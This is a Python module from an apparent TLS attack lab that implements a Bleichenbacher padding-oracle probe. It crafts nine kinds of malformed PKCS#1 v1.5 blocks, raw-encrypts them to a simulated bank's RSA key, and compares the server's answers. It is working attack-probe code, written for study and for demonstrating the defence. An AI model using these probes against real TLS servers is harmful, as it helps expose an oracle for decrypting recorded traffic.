"""`bleichenbacher`: a server's answer may be a word about the padding of what it could not use.

Alice sends the bank one ClientKeyExchange after another whose EncryptedPreMasterSecret opens to something that is
wrong in a way of its own (RFC 8017, 7.2.2 says what is right), and compares the answers octet for octet. One
difference would be an oracle, and an oracle opens recordings, about a million questions each. She measures; the
million she leaves to the reader. `measures` reads the answers out of the trace, and how soon they came.
"""

from __future__ import annotations

from collections.abc import Callable
from functools import partial
from typing import TYPE_CHECKING

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey

from trustlab import tls
from trustlab.attacks.alice.applications import Quiet
from trustlab.attacks.alice.legs import Credentials, TowardsServer
from trustlab.attacks.alice.tools import Alice
from trustlab.attacks.attack import Attack

if TYPE_CHECKING:
    from trustlab.cloud import Guest

ATTACK = Attack(
    name="bleichenbacher",
    needs=("a connection to the bank, as anybody has",),
    steps=(
        "encrypts to the bank's key blocks that are wrong in one way each",
        "finishes every handshake with keys that cannot be the right ones",
        "compares what the bank says to each, octet for octet",
    ),
    breaks="confidentiality",
    why="A server that says what was wrong with a ciphertext decrypts it, a bit at a time.",
    source="Bleichenbacher (1998); RFC 5246 7.4.7.1",
    stopped_by="random octets in place of a secret that is not one, and the same alert whatever was wrong",
    tls="1.2",
    prize="oracle",
)
ATTACKS = (ATTACK,)
NO_EVIDENCE = b"\0"
"""What she shows where evidence is asked for: it is judged only after the handshake, which her keys do not finish."""
PMS = 48
V12 = b"\x03\x03"
Draw = Callable[[int], bytes]


def _fill(draw: Draw, size: int) -> bytes:
    """Return padding: octets that are not zero."""
    return bytes(1 + octet % 255 for octet in draw(size))


def _block(draw: Draw, k: int, head: bytes, secret: bytes, *, separator: bytes = b"\0") -> bytes:
    return head + _fill(draw, k - len(head) - len(separator) - len(secret)) + separator + secret


VARIANTS: dict[str, Callable[[Draw, int], bytes]] = {
    "sound": lambda draw, k: _block(draw, k, b"\0\2", V12 + draw(PMS - 2)),
    "another version inside": lambda draw, k: _block(draw, k, b"\0\2", b"\3\1" + draw(PMS - 2)),
    "a secret too short": lambda draw, k: _block(draw, k, b"\0\2", V12 + draw(PMS - 3)),
    "a secret too long": lambda draw, k: _block(draw, k, b"\0\2", V12 + draw(PMS - 1)),
    "no secret at all": lambda draw, k: _block(draw, k, b"\0\2", b""),
    "block type 1": lambda draw, k: _block(draw, k, b"\0\1", V12 + draw(PMS - 2)),
    "a first octet that is not zero": lambda draw, k: _block(draw, k, b"\1\2", V12 + draw(PMS - 2)),
    "no zero after the padding": lambda draw, k: b"\0\2" + _fill(draw, k - 2),
    "a zero within the padding's first eight octets": lambda draw, k: b"\0\2\0" + _fill(draw, k - 3),
}
"""What is wrong with a block of k octets, and how to make one (RFC 8017, 7.2.2: 00 02 PS 00 M, PS at least 8)."""


def start(guest: Guest) -> None:
    """Ask the bank once for every variant."""
    alice = Alice(guest, ATTACK)
    shows = Credentials.of(alice.rogue_identity()) if alice.design.client_key else None
    for name, make in VARIANTS.items():
        alice.connect(partial(Questioner, alice, make, shows))
        alice.tell(name, f"asks the bank to open a secret with this about it: {name}.")


class Questioner(TowardsServer):
    """A client whose EncryptedPreMasterSecret opens to a block of Alice's, and whose keys are made up."""

    def __init__(self, alice: Alice, make: Callable[[Draw, int], bytes], shows: Credentials | None, name: str) -> None:
        super().__init__(alice, name, Quiet(), shows=shows)
        self._make = make
        self._draw = alice.guest.random

    def respond(self, request: tls.Request) -> None:
        """Put the block in the secret's place, and something in the evidence's."""
        match request:
            case tls.EvidenceWanted():
                self.connection.answer(request, NO_EVIDENCE)
            case tls.PreMasterSecretReady():
                certificate = x509.load_der_x509_certificate(self.connection.peer_certificates[0])
                key = certificate.public_key()
                if not isinstance(key, RSAPublicKey):
                    raise TypeError("this attack is on RSA key transport, and the bank's key is another")
                epms = encrypted(key, self._make(self._draw, key.key_size // 8))
                self.connection.answer(request, tls.ChosenPreMasterSecret(self._draw(PMS), epms))
            case _:
                super().respond(request)


def encrypted(key: RSAPublicKey, block: bytes) -> bytes:
    """Return a block raised to the public exponent, without any padding: k octets."""
    numbers = key.public_numbers()
    return pow(int.from_bytes(block, "big"), numbers.e, numbers.n).to_bytes(key.key_size // 8, "big")
